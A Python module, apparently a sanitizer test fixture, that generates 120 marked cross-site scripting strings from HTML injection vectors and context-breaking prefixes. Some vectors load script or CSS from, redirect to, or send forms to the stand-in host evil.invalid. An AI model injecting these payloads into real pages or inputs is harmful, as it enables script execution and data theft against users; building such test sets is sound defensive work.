"""120 texts that would run, load or change something if a page took them for markup; each bears a mark."""

MARK = "data-planted"
HOOK = "qHit"
VECTORS = (
    "<script {m}>{h}(1)</script>",
    "<script {m} src=//evil.invalid/x.js></script>",
    "<img {m} src=x onerror={h}(2)>",
    "<img {m} src=x onerror=&#113;Hit(3)>",
    "<svg {m} onload={h}(4)>",
    "<svg {m}><script>{h}(5)</script></svg>",
    "<svg {m}><use href=data:image/svg+xml,x onerror={h}(6)></use></svg>",
    "<svg {m}><animate attributeName=href values=javascript:{h}(7) /><a>x</a></svg>",
    "<math {m}><mtext><img src=x onerror={h}(8)></mtext></math>",
    "<iframe {m} srcdoc='<script>parent.{h}(9)</script>'></iframe>",
    "<iframe {m} src=javascript:parent.{h}(10)></iframe>",
    "<object {m} data=javascript:{h}(11)></object>",
    "<embed {m} src=javascript:{h}(12)>",
    "<details {m} open ontoggle={h}(13)><summary>x</summary></details>",
    "<input {m} autofocus onfocus={h}(14)>",
    "<select {m} autofocus onfocus={h}(15)></select>",
    "<video {m}><source onerror={h}(16)></video>",
    "<audio {m} src=x onerror={h}(17)>",
    "<body {m} onload={h}(18)>",
    "<style {m}>@import '//evil.invalid/x.css';</style>",
    "<link {m} rel=stylesheet href=//evil.invalid/x.css>",
    "<meta {m} http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<base {m} href=//evil.invalid/>",
    "<form {m} action=//evil.invalid/><button formaction=javascript:{h}(19)>x</button></form>",
    "<a {m} href=javascript:{h}(20)>x</a>",
    "<a {m} href='java&#9;script:{h}(21)'>x</a>",
    "<div {m} hx-get=/me hx-trigger=load hx-on:load={h}(22)></div>",
    "<div {m} style=position:fixed;inset:0;background:red onmouseover={h}(23)></div>",
    "<template {m}><script>{h}(24)</script></template><noscript><p title='</noscript><img {m} src=x onerror={h}(25)>'>",
    "{{{{7*7}}}}${{7*7}}<%= 7*7 %>{{% raw %}}<b {m} onclick={h}(26)>[x](javascript:{h}(27)) &lt;script&gt;{h}(28)",
)
"""What each would do: run a script, load from elsewhere, redraw the page, send its forms away."""
BREAKS = ("", "\"'>", "</textarea></title></option></select>", "--></script></style>]]>")
"""How each would first leave the place in which it stands: text, an attribute, an element, a comment."""
PAYLOADS = tuple(broken + vector.format(m=MARK, h=HOOK) for broken in BREAKS for vector in VECTORS)
WHOLE = "\n".join(PAYLOADS)
SHORT = tuple(payload[:180] for payload in PAYLOADS)
"""Where a field takes no more."""
